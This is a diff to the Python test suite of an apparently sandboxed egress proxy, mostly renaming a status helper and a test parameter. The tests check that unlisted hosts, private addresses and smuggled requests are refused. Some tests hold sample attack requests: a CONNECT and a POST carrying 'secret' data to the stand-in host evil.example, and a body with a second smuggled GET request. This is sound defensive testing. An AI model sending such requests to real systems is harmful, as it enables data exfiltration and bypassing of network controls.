@@ -30,9 +30,9 @@ from tests.egress import (
     Open,
     Server,
     echo,
+    http_status,
     mirror_head,
     sandboxes,
-    status_of,
     write_code,
 )
 from tests.unit.test_resident import READY, ScriptedStream
@@ -90,7 +90,7 @@ async def test_a_plain_request_reaches_a_named_host(open_sandbox: Open) -> None:
 
 
 @pytest.mark.parametrize(
-    ("framing", "body", "passed_on"),
+    ("framing", "body", "forwarded_headers"),
     [
         (b"Content-Length: 5", b"hello", b"hello"),
         (b"Content-Length: 5", b"helloGET http://b.example/ HTTP/1.1\r\n\r\n", b"hello"),
@@ -103,7 +103,7 @@ async def test_a_plain_request_reaches_a_named_host(open_sandbox: Open) -> None:
     ],
 )
 async def test_a_server_gets_one_request_with_its_body_and_nothing_after_it(
-    open_sandbox: Open, framing: bytes, body: bytes, passed_on: bytes
+    open_sandbox: Open, framing: bytes, body: bytes, forwarded_headers: bytes
 ) -> None:
     got: list[bytes] = []
 
@@ -121,8 +121,8 @@ async def test_a_server_gets_one_request_with_its_body_and_nothing_after_it(
 
         answer = await inside.ask(head + body)
 
-        assert status_of(answer) == 204
-        assert b"".join(got) == passed_on
+        assert http_status(answer) == 204
+        assert b"".join(got) == forwarded_headers
 
 
 @pytest.mark.parametrize(
@@ -190,7 +190,7 @@ async def test_a_host_that_is_not_named_is_refused_and_logged_without_what_was_a
         tunnel = await inside.ask(b"CONNECT evil.example:443 HTTP/1.1\r\nA: secret\r\n\r\n")
         plain = await inside.ask(b"POST http://evil.example/secret?secret HTTP/1.1\r\n\r\nsecret")
 
-    assert [status_of(tunnel), status_of(plain)] == [403, 403]
+    assert [http_status(tunnel), http_status(plain)] == [403, 403]
     assert b"web.example" in tunnel  # what it may reach instead
     assert [(entry["job"], entry["host"], entry["port"]) for entry in logs] == [
         (JOB, "evil.example", 443),
@@ -223,7 +223,7 @@ async def test_no_spelling_of_a_host_leads_past_the_list(open_sandbox: Open, tar
             f"GET http://{target} HTTP/1.1\r\nHost: web.example\r\n\r\n".encode()
         )
 
-        assert {status_of(tunnel), status_of(plain)} <= {400, 403}
+        assert {http_status(tunnel), http_status(plain)} <= {400, 403}
         assert server.connections == 0
         assert names.asked == []
 
@@ -244,7 +244,7 @@ async def test_a_named_host_with_a_private_address_is_refused(
 
         answer = await inside.ask(f"CONNECT web.example:{server.port} HTTP/1.1\r\n\r\n".encode())
 
-        assert status_of(answer) == 403
+        assert http_status(answer) == 403
         assert b"private" in answer
         assert server.connections == 0
 
@@ -267,7 +267,7 @@ async def test_the_address_that_was_looked_up_is_the_one_that_is_connected_to(
         assert names.asked == ["web.example"]
         answer = await inside.ask(f"CONNECT web.example:{other.port} HTTP/1.1\r\n\r\n".encode())
 
-        assert status_of(answer) == 403
+        assert http_status(answer) == 403
         assert (admitted.connections, other.connections) == (1, 0)
         writer.close()
 
@@ -294,7 +294,7 @@ async def test_what_cannot_be_reached_is_a_bad_gateway(open_sandbox: Open) -> No
     unknown = await inside.ask(b"CONNECT web.example:443 HTTP/1.1\r\n\r\n")
     closed = await inside.ask(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())
 
-    assert [status_of(unknown), status_of(closed)] == [502, 502]
+    assert [http_status(unknown), http_status(closed)] == [502, 502]
 
 
 async def test_headers_have_a_limit(open_sandbox: Open) -> None:
@@ -302,7 +302,7 @@ async def test_headers_have_a_limit(open_sandbox: Open) -> None:
 
     answer = await inside.ask(b"CONNECT web.example:443 HTTP/1.1\r\nA: " + b"a" * 200_000)
 
-    assert status_of(answer) == 431
+    assert http_status(answer) == 431
 
 
 async def test_a_client_that_does_not_say_what_it_wants_is_refused_and_holds_nobody_up(
@@ -323,10 +323,10 @@ async def test_a_client_that_does_not_say_what_it_wants_is_refused_and_holds_nob
 
         dripping = [asyncio.create_task(drip(*link)) for link in slow]
         request = f"GET http://127.0.0.1:{server.port}/ HTTP/1.1\r\n\r\n".encode()
-        assert status_of(await inside.ask(request)) == 200
+        assert http_status(await inside.ask(request)) == 200
         assert not any(one.done() for one in dripping)
 
-        assert {status_of(answer) for answer in await asyncio.gather(*dripping)} == {408}
+        assert {http_status(answer) for answer in await asyncio.gather(*dripping)} == {408}
         for _, writer in slow:
             writer.close()
 
@@ -624,7 +624,7 @@ async def test_the_connections_of_all_jobs_are_bounded(open_sandbox: Open) -> No
         await asyncio.sleep(0.2)
         links.append(await second.tunnel(target))
 
-        assert status_of(refused) == 503
+        assert http_status(refused) == 503
         for _, writer in links:
             writer.close()
 
@@ -650,4 +650,4 @@ async def test_a_name_of_the_workers_own_machine_leads_nowhere(
 
         answer = await inside.ask(f"CONNECT web.example:{server.port} HTTP/1.1\r\n\r\n".encode())
 
-        assert status_of(answer) == 403
+        assert http_status(answer) == 403
